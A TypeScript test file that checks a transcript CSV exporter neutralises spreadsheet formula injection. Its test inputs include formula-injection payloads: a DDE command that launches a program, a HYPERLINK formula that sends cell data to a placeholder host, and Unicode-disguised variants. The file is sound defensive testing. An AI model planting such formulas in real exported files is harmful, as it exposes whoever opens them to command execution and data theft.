import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/conversations/transcripts/csv.ts';
import { parseCsv } from './parse-csv.ts';

const dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '﹢', '−'];
const formulas = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '+62 kirim ke sini',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://contoh.test?x="&A1,"klik")',
  '＝１＋１',
  '＠SUM(A1)',
  '\t=1',
  '\r=1',
  '\0=1',
  '\n=1',
  ' =1+1',
  '\u200b=1+1',
  '\u3000＝1',
  '"=1+1',
  ',=1+1',
  ';=1+1',
];

describe('a CSV record', () => {
  it.each(formulas)('does not let %j begin a cell', formula => {
    for (const [row] of [parseCsv(csvLine(['a', formula, 'b']))]) {
      expect(row).toHaveLength(3);
      const cell = row?.[1] ?? '';
      expect(dangerous).not.toContain([...cell.trimStart()][0]);
      expect(cell.endsWith(formula)).toBe(true);
    }
  });

  it('gives every text back, behind at most one apostrophe', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .array(fc.constantFrom('"', ',', ';', '\r\n', '\n', ' ', 'a', ...dangerous))
        .map(parts => parts.join('')),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), texts => {
        const [row, ...more] = parseCsv(csvLine(texts));
        expect(more).toEqual([]);
        expect(row?.map((cell, index) => (cell === `'${texts[index]}` ? texts[index] : cell))).toEqual(texts);
        for (const cell of row ?? []) expect(dangerous).not.toContain([...cell][0]);
      }),
    );
  });

  it('ends with CR LF, leaves absent values empty and numbers bare', () => {
    expect(csvLine(['a', null, 0.93, 'x y', 'kata "sandi"'])).toBe('a,,0.93,"x y","kata ""sandi"""\r\n');
  });
});
